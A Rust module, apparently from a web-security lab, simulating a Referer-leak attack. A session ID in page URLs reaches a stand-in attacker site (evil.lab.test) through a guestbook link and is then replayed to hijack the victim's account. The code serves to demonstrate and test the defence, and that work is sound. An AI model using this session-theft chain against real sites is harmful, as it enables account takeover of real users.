//! `referer-leak`: a session ID in the page URL leaks through `Referer`.
//!
//! The app writes the session ID into its own links (`?sid=`), so it sits in
//! the URL of every page the victim views. The attacker posts a guestbook
//! entry with a link to their own site. When the victim clicks it, her
//! browser tells the attacker's site where she came from, in `Referer`: as
//! much of the page URL as the page's Referrer-Policy allows. The attacker
//! reads their access log and replays the ID.

use rand::Rng;
use url::Url;

use crate::actors::{
    attacker_signs_guestbook, judge, log_in, read_own_note, replay_session_id, short,
};
use crate::evil_site::EvilSite;
use crate::lab::{RunContext, RunError};
use crate::outcome::{Actor, Verdict};
use crate::victim::Drive;

pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
    let evil = EvilSite::start()
        .await
        .map_err(|e| RunError::Lab(format!("could not start evil.lab.test: {e}")))?;
    let token = format!("{:016x}", rand::rng().random::<u64>());
    let deals = evil.url(&format!("/deals/{token}"));

    let mut attacker = ctx.browser(Actor::Attacker, "attacker");
    let message = format!("Cheap flights to Wonderland, 90% off: {deals}");
    attacker_signs_guestbook(ctx, &mut attacker, &message, &format!("linking to {deals}")).await?;

    let mut victim = ctx.victim_browser("victim");
    evil.join(victim.network_mut());
    log_in(ctx, &mut victim, &ctx.victim).await?;
    let note = read_own_note(ctx, &mut victim).await?;
    ctx.step(
        Actor::Victim,
        format!(
            "{} logged in and opened her account page",
            ctx.victim.username
        ),
        "saw her private note",
    );
    let account = victim.open(&ctx.app_url("/account")).await?;
    let guestbook = victim.follow_link(&account, "/guestbook").await?;
    let id_in_url = sid_in(&guestbook.url);
    let policy = guestbook.header("referrer-policy").map_or(
        "none (the browser default, strict-origin-when-cross-origin)".to_string(),
        str::to_string,
    );
    ctx.step(
        Actor::Victim,
        format!(
            "{} opened the guestbook from her account page's menu",
            ctx.victim.username
        ),
        format!(
            "the address bar shows {}{}; Referrer-Policy: {policy}",
            guestbook.url.path(),
            match &id_in_url {
                Some(id) => format!("?sid={}, her session ID", short(id)),
                None => " with no session ID in it".to_string(),
            }
        ),
    );
    victim.follow_link(&guestbook, &token).await?;
    ctx.step(
        Actor::Victim,
        format!(
            "{} clicked the link in {}'s entry",
            ctx.victim.username, ctx.attacker.username
        ),
        format!("her browser went to {deals}"),
    );

    let visits = evil.visits(&token);
    let Some(visit) = visits.last() else {
        return Err(RunError::Lab(
            "the victim's click never reached evil.lab.test".into(),
        ));
    };
    let leaked = visit
        .referer
        .as_deref()
        .and_then(|referer| Url::parse(referer).ok())
        .and_then(|referer| sid_in(&referer));
    let logged = match &visit.referer {
        Some(referer) => format!("Referer: {referer}"),
        None => "no Referer at all".to_string(),
    };
    let read_log = ctx.step(
        Actor::Attacker,
        "read the access log of evil.lab.test",
        format!("the visit came with {logged}"),
    );
    let Some(id) = leaked else {
        return Ok(Verdict::blocked(
            format!("the access log holds {logged}: no session ID to replay"),
            read_log,
        ));
    };
    let account = ctx.app_url("/account");
    let probe = replay_session_id(ctx, &id, account).await?;
    Ok(judge(
        ctx,
        "replayed the ID from the Referer on /account",
        &probe,
        &note,
        &format!("the access log held the session ID ({})", short(&id)),
        "the leaked ID",
    ))
}

/// The `sid` query parameter of a URL, if any.
fn sid_in(url: &Url) -> Option<String> {
    url.query_pairs()
        .find(|(name, _)| name == "sid")
        .map(|(_, value)| value.into_owned())
}
